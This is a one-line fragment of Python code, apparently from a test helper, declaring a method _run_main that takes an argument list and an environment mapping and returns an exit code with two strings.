     def _run_main(self, argv: list[str], env: dict[str, str]) -> tuple[int, str, str]:
